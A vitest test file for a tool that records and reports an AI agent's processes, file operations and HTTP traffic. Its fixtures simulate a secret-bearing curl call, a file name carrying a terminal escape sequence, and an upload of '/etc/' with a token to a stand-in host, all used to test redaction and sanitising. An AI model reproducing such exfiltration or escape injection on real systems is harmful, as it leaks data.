// The commands on evidence that was written for the test: formats, exit codes, and what may reach a terminal.

import { execFile } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { EvidenceWriter, type RecordedEvent } from '../../src/evidence/writer.js';
import { type Column, tableNames, tables } from '../../src/governance/columns.js';
import { Wire } from '../support/wire.js';
import { exec, exit, fileIo, fileOp, fork } from './events.js';

const agsight = fileURLToPath(new URL('../../bin/agsight.js', import.meta.url));
const fixture = fileURLToPath(new URL('../fixtures/demo/bundle', import.meta.url));
const token = `sk-live-${'a1b2c3d4'.repeat(4)}`;
const ids = { CODEX_THREAD_ID: 'thread-1', CODEX_TOOL_CALL_ID: 'call_x' };
let bundle: string;

beforeEach(() => {
  bundle = join(mkdtempSync(join(tmpdir(), 'agsight-events-')), 'bundle');
  mkdirSync(bundle);
});

afterEach(() => rmSync(join(bundle, '..'), { recursive: true, force: true }));

const start: RecordedEvent = {
  kind: 'capture-start',
  ...{ pid: 0, tid: 0, comm: '', timeNs: 0n, rootPid: 0 },
  formatVersion: 1,
  agsightVersion: '0.0.0',
  hostname: 'host',
  kernel: '6.0',
  arch: 'x86_64',
  bootId: '',
  monotonicNs: 0n,
  realtimeNs: 0n,
  salt: new Uint8Array(32),
  targetPids: [10],
  command: [],
  recorded: [],
};

function write(...events: RecordedEvent[]): void {
  const writer = new EvidenceWriter(bundle);
  for (const event of [start, ...events]) writer.append(event);
  writer.end({ ...start, kind: 'capture-end', reason: 'target-exit' });
  writer.close();
}

const story: RecordedEvent[] = [
  fork(20, 10),
  exec(20, ['bash', '-c', `curl -H "Authorization: Bearer ${token}" https://host`], ids, 5),
  fileOp({ at: 10, end: 12, pid: 20, path: '/work/a "b",\u001b[2Jc\nd.txt', wantedMode: 0o644 }),
  fileIo({ at: 20, end: 30, pid: 20 }),
  fileOp({ at: 40, pid: 20, operation: 'chown', errno: 1, ownerUid: 0, ownerGid: 4_294_967_295 }),
  {
    kind: 'connect',
    ...{ pid: 20, tid: 20, comm: 'bash', rootPid: 10, timeNs: 50_000n, endNs: 50_000n, errno: 111 },
    ...{ family: 2, address: '192.0.2.1', port: 443 },
  },
  { ...exit(20, 3), timeNs: 60_000n },
];

function run(...args: string[]): Promise<{ status: unknown; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    execFile(process.execPath, [agsight, ...args], (error, stdout, stderr) =>
      resolve({ status: error === null ? 0 : error.code, stdout, stderr }),
    );
  });
}

const lines = (text: string) => text.trimEnd().split('\n');

test('ndjson has the columns of the DDL in their order, json the same rows', async () => {
  write(...story);
  const { stdout: ddl } = await run('events', '--ddl');
  for (const table of tableNames) {
    const { stdout } = await run('events', bundle, '--table', table, '--format', 'ndjson');
    const rows = stdout === '' ? [] : lines(stdout).map((line) => JSON.parse(line));
    const columns: readonly Column[] = tables[table];
    for (const row of rows) expect(Object.keys(row)).toEqual(columns.map(({ name }) => name));
    const [statement = ''] = ddl.split(`IF NOT EXISTS ${table}_event (`)[1]?.split(';') ?? [];
    expect([...statement.matchAll(/^ {2}`(\w+)`/gm)].map(([, name]) => name)).toEqual([
      ...columns.map(({ name }) => name),
      'at',
    ]);
    if (table !== 'file_mgmt') continue;
    expect(JSON.parse((await run('events', bundle, '--table', table, '--json')).stdout)).toEqual(rows);
  }
});

test('a row tells times in microseconds, the result, and the call', async () => {
  write(...story);
  const { stdout } = await run('events', bundle, '--table', 'file_mgmt', '--format', 'ndjson');
  const [, chown] = lines(stdout).map((line) => JSON.parse(line));
  expect(chown).toMatchObject({
    ...{ time: 40, start_time: 40, end_time: 40, event_type: 'chown', errno: 1, pid: 20, root_pid: 10 },
    ...{
      file_dir: '/work/',
      file_name: 'a.txt',
      target_uid: 0,
      target_gid: 4_294_967_295,
      target_mode: null,
    },
    ...{ codex_thread_id: 'thread-1', tool_call_id: 'call_x', attribution: 'environment' },
  });
});

test('csv quotes what needs it', async () => {
  write(...story);
  const { stdout } = await run('events', bundle, '--table', 'file_mgmt', '--format', 'csv');
  expect(stdout).toContain(',"a ""b"",\u001b[2Jc\nd.txt",');
  const processes = await run('events', bundle, '--table', 'proc_ops', '--format', 'csv');
  expect(processes.stdout).toMatch(/,"\[""bash"",""-c"",/);
});

test('no secret leaves the evidence, no control sequence reaches a terminal', async () => {
  write(...story);
  for (const args of [
    ['--table', 'proc_ops'],
    ['--table', 'proc_ops', '--format', 'ndjson'],
    ['--by', 'tool-call'],
    ['--by', 'tool-call', '--json'],
  ]) {
    const { stdout } = await run('events', bundle, ...args);
    expect(stdout).not.toContain(token);
    expect(stdout).toContain('Bearer [redacted:');
  }
  for (const args of [
    ['--table', 'file_mgmt'],
    ['--by', 'tool-call'],
  ]) {
    expect((await run('events', bundle, ...args)).stdout).not.toContain('\u001b');
  }
});

test('a tool call that only the environment knows is told all the same', async () => {
  write(...story);
  const { stdout } = await run('events', bundle, '--by', 'tool-call', '--json');
  expect(JSON.parse(stdout)).toMatchObject([
    {
      ...{ tool_call_id: 'call_x', codex_thread_id: 'thread-1', tool: null, started_at: null },
      processes: [{ pid: 20, exit_code: 3, attribution: 'environment' }],
      files: [
        { event_type: 'create' },
        { event_type: 'write', bytes: 10 },
        { event_type: 'chown', errno: 1 },
      ],
      connections: [{ address: '192.0.2.1', port: 443, errno: 111, attribution: 'environment' }],
    },
  ]);
});

test('lost events and damage make the exit code 3', async () => {
  write(...story);
  expect((await run('events', bundle, '--table', 'file_agg')).status).toBe(0);
  rmSync(join(bundle, 'evidence'), { recursive: true });
  write(...story, { ...start, kind: 'loss', counters: { operation_ring_full: 2 }, processes: [] });
  for (const args of [
    ['--table', 'file_agg'],
    ['--by', 'tool-call'],
  ]) {
    const { status, stderr } = await run('events', bundle, ...args);
    expect(status).toBe(3);
    expect(stderr).toMatch(/^agsight: .*events were lost, or .*\(see agsight verify\)\n$/);
  }
});

test('a bundle of Codex itself is shown without what a capture would add', async () => {
  cpSync(fixture, bundle, { recursive: true });
  const { status, stdout } = await run('show', bundle);
  expect(status).toBe(0);
  expect(stdout).toMatch(/prompt\n +│ Count the words[\s\S]*tool exec_command call_mock_1[\s\S]*answer\n/);
  expect(await run('events', bundle, '--table', 'file_agg')).toMatchObject({ status: 1, stdout: '' });
});

test('a capture without a run is shown by what was done, whoever asked for it', async () => {
  const uncalled = story.map((event) => (event.kind === 'exec' ? { ...event, environment: {} } : event));
  write(...uncalled);
  const { status, stdout, stderr } = await run('show', bundle);
  expect(stderr).toContain(
    'it holds no run: either no request to a model was made, or agsight reduce is still to interpret',
  );
  expect(status).toBe(0);
  expect(lines(stdout).map((line) => line.replace(/^[\d:.]+ +/, ''))).toEqual([
    'process 10 and what it started',
    '',
    expect.stringMatching(/^process 20: bash -c .*\[redacted:.*exit 3$/),
    'create /work/a "b",c d.txt: ok',
    'write /work/a.txt, 10 bytes: ok',
    'chown /work/a.txt to 0:: EPERM',
    'connect 192.0.2.1 port 443: ECONNREFUSED',
  ]);
  const { roots } = JSON.parse((await run('show', bundle, '--json')).stdout);
  expect(roots).toMatchObject([{ root_pid: 10, processes: [{ pid: 20, exit_code: 3 }] }]);
});

test('what a command asked of others over HTTP is told with it, calls of models are told in runs', async () => {
  const wire = new Wire(1, 20);
  const body = '{"model":"m","input":[]}';
  const talk: [direction: 'send' | 'receive', text: string][] = [
    ['send', `POST /up/${token}?key=k HTTP/1.1\r\nhost: drop.test\r\ncontent-length: 12\r\n\r\nall of /etc/`],
    ['receive', 'HTTP/1.1 201 Created\r\ncontent-length: 2\r\n\r\nok'],
    ['send', `POST /v1/responses HTTP/1.1\r\nhost: m.test\r\ncontent-length: ${body.length}\r\n\r\n${body}`],
    ['receive', 'HTTP/1.1 400 Bad\r\ncontent-length: 2\r\n\r\nno'],
    ['send', 'POST /early HTTP/1.1\r\nhost: drop.test\r\ncontent-length: 6\r\n\r\nall'],
    ['receive', 'HTTP/1.1 413 No\r\ncontent-length: 2\r\n\r\nno'],
    ['send', 'it'],
    ['send', 's'],
    ['send', 'GET /slow\u001b[2J HTTP/1.1\r\nhost: drop.test\r\n\r\n'],
  ];
  const pieces = talk.flatMap(([direction, text], index) =>
    wire.piece(direction, text, BigInt(index + 10) * 1000n).map((event) => ({ ...event, rootPid: 10 })),
  );
  write(fork(20, 10), exec(20, ['curl', 'drop.test'], ids, 5), ...pieces, {
    ...exit(20, 0),
    timeNs: 60_000n,
  });
  const { stdout } = await run('events', bundle, '--by', 'tool-call', '--json');
  const [call] = JSON.parse(stdout);
  const asked = { pid: 20, attribution: 'environment', host: 'drop.test' };
  expect(call.http_requests).toMatchObject([
    { ...asked, method: 'POST', status: 201, sent_bytes: 12, received_bytes: 2, complete: true, time: 10 },
    { ...asked, path: '/early', status: 413, sent_bytes: 6, received_bytes: 2, complete: true },
    { ...asked, method: 'GET', status: null, sent_bytes: 0, received_bytes: 0, complete: false },
  ]);
  expect(call.http_requests[0].path).toMatch(/^\/up\/\[redacted:[0-9a-f]+\]$/);
  const shown = await run('events', bundle, '--by', 'tool-call');
  expect(shown.stdout).toMatch(
    /POST drop\.test\/up\/\[redacted:\S+ +201, 12 bytes sent, 2 bytes received +environment/,
  );
  expect(shown.stdout).toMatch(/GET drop\.test\/slow\S* +no answer/);
  expect(stdout + shown.stdout).not.toMatch(new RegExp(`${token}|\u001b|key=`));
});

test('of several processes each request and connection names its own, and an answer that was cut off is told so', async () => {
  const ask = (pid: number, connection: number): RecordedEvent[] => {
    const wire = new Wire(connection, pid);
    const head = 'GET /a HTTP/1.1\r\nhost: cut.test\r\n\r\n';
    const answer = 'HTTP/1.1 200 OK\r\ncontent-length: 9\r\n\r\nhalf';
    const pieces = [...wire.piece('send', head, 20_000n), ...wire.piece('receive', answer, 30_000n)];
    return [
      fork(pid, 10),
      exec(pid, ['curl', 'cut.test'], ids, 5),
      ...pieces.map((event) => ({ ...event, rootPid: 10 })),
      { ...exit(pid, 0), timeNs: 60_000n },
    ];
  };
  write(...ask(20, 1), ...ask(21, 2));
  const { stdout } = await run('events', bundle, '--by', 'tool-call');
  for (const pid of [20, 21]) {
    expect(stdout).toMatch(
      new RegExp(`GET cut\\.test/a, by ${pid} +200, 4 bytes received, not to its end +environment`),
    );
  }
});

test('what the capture did not see is told, with exit code 3', async () => {
  write(...story);
  expect((await run('show', bundle)).status).toBe(0);
  const unseen = [{ program: '/bin/kubectl', connections: 2, bytes: 9000, remotes: [], libraries: [] }];
  writeFileSync(join(bundle, 'capture.json'), JSON.stringify({ unseen_tls: unseen }));
  const listed = [
    { stage: 'interpret', kind: 'not-http', count: 1, example: 'x' },
    { stage: 'interpret', kind: 'inferred-thread', count: 1, example: 'x' },
  ];
  writeFileSync(join(bundle, 'anomalies.json'), JSON.stringify(listed));
  const { status, stderr } = await run('show', bundle);
  expect(status).toBe(3);
  expect(stderr).toContain(
    `/bin/kubectl: 2 TLS connections not seen (see unseen_tls in ${bundle}/capture.json)`,
  );
  expect(stderr).toContain(`1 fault, first not-http (see ${bundle}/anomalies.json)`);
});

test('what ran before the capture is told by its program, and of forks those that went wrong', async () => {
  const attached: RecordedEvent = { ...exec(10, ['python3', 'agent.py']), kind: 'running' };
  const forks = [20, 21, 22].flatMap((pid) => [fork(pid, 10), exit(pid, pid === 22 ? 3 : 0)]);
  write(attached, ...forks, exit(10));
  expect(
    lines((await run('show', bundle)).stdout)
      .slice(2)
      .map((line) => line.replace(/^[\d:.]+ +/, '')),
  ).toEqual([
    'process 22: fork of process 10: exit 3',
    'process 10: python3 agent.py: exit 0',
    '2 forks that ran no program (--json has them)',
  ]);
});

test('beside its tool calls a run has what it began itself', async () => {
  cpSync(fixture, bundle, { recursive: true });
  const threadId = JSON.parse((await run('show', bundle, '--json')).stdout).runs[0].threads[0].thread_id;
  write(
    exec(20, ['hook', 'before'], {}, 5),
    fileIo({ at: 20, pid: 20 }),
    exec(20, ['wc', 'notes.md'], { CODEX_THREAD_ID: threadId, CODEX_TOOL_CALL_ID: 'call_mock_1' }, 30),
    exit(20),
  );
  const { stdout } = await run('show', bundle);
  expect(stdout).toMatch(/tool exec_command call_mock_1.*\n.*\n +process 20: wc notes\.md: exit 0\n/);
  expect(lines(stdout.slice(stdout.indexOf('outside')))).toEqual([
    'outside of tool calls, process 10 and what it started',
    '',
    expect.stringMatching(/^[\d:.]+ {2}process 20: hook before: went on for a tool call$/),
    expect.stringMatching(/^ +1 changed file \(/),
  ]);
});

test('show --json has the prompts, answers and tokens of each run', async () => {
  cpSync(fixture, bundle, { recursive: true });
  const { runs } = JSON.parse((await run('show', bundle, '--json')).stdout);
  expect(runs).toMatchObject([
    {
      status: 'completed',
      threads: [
        {
          agent_path: '/root',
          entries: [
            { type: 'message', role: 'user', text: 'Count the words in notes.md and report.' },
            { type: 'request', response_id: 'resp_mock_1', usage: { input_tokens: 4200 } },
            { type: 'tool_call', tool_call_id: 'call_mock_1' },
            { type: 'request', response_id: 'resp_mock_2' },
            { type: 'message', role: 'assistant' },
          ],
          tokens: { requests: 2, input_tokens: 8500, cached_input_tokens: 7168, output_tokens: 112 },
        },
      ],
    },
  ]);
});

test('what is asked for wrongly is refused in one line', async () => {
  write();
  for (const args of [[bundle], ['--table', 'file_agg'], [bundle, '--table', 'files']]) {
    const { status, stderr } = await run('events', ...args);
    expect({ status, lines: lines(stderr).length }).toEqual({ status: 2, lines: 1 });
  }
  expect((await run('show', bundle)).stderr).toMatch(/holds nothing that an agent did/);
});

test('a table without rows says so, and what was not recorded is told', async () => {
  const writer = new EvidenceWriter(bundle);
  writer.append({ ...start, recorded: ['processes', 'tls', 'sockets'] });
  for (const event of [exec(20, ['true'], ids, 5), exit(20, 0)]) writer.append(event);
  writer.end({ ...start, kind: 'capture-end', reason: 'target-exit' });
  writer.close();
  for (const table of ['file_agg', 'file_mgmt', 'proc_perm']) {
    const { status, stdout, stderr } = await run('events', bundle, '--table', table);
    expect([status, stdout]).toEqual([0, 'none\n']);
    expect(stderr).toMatch(/^agsight: what was done to files.* was not recorded/);
  }
  expect((await run('events', bundle, '--table', 'proc_ops')).stderr).toBe('');
  expect((await run('events', bundle, '--by', 'tool-call')).stderr).toMatch(/was not recorded/);
});

test('an empty table of a capture that recorded files needs no note', async () => {
  const writer = new EvidenceWriter(bundle);
  writer.append({ ...start, recorded: ['processes', 'tls', 'sockets', 'files'] });
  writer.end({ ...start, kind: 'capture-end', reason: 'target-exit' });
  writer.close();
  expect(await run('events', bundle, '--table', 'file_agg')).toEqual({
    status: 0,
    stdout: 'none\n',
    stderr: '',
  });
  expect((await run('events', bundle, '--by', 'tool-call')).stdout).toBe('none\n');
  expect((await run('events', bundle, '--table', 'file_agg', '--format', 'csv')).stdout).toMatch(/^time,/);
});

test.each([
  [[], /one of --table .*and --by tool-call is needed/],
  [['--by', 'tool-call', '--table', 'proc_ops'], /not both --table and --by/],
  [['--by', 'tool-call', '--format', 'csv'], /--format csv/],
  [['--table', 'proc_ops', '--json', '--format', 'csv'], /not both --json and --format csv/],
])('wrong usage: %j', async (args, message) => {
  write(...story);
  const { status, stdout, stderr } = await run('events', bundle, ...args);
  expect([status, stdout]).toEqual([2, '']);
  expect(stderr).toMatch(message);
});
